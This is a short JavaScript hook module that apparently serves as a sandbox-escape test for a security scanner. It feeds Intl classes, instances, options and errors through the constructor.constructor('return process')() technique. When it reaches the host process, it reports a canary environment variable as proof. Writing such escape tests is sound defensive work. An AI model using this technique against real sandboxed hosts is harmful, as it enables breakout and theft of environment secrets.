// Intl: its classes, their instances, and options that are read from accessors.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const options = new Proxy({}, { get: (target, key, self) => (look(self), undefined) });
    for (const name of Object.getOwnPropertyNames(Intl)) {
      const Kind = Intl[name];
      look(Kind);
      try {
        const one = new Kind('en', options);
        look(one);
        look(one.resolvedOptions?.());
      } catch (error) {
        look(error);
      }
    }
    return { metadata: verdict() };
  },
};
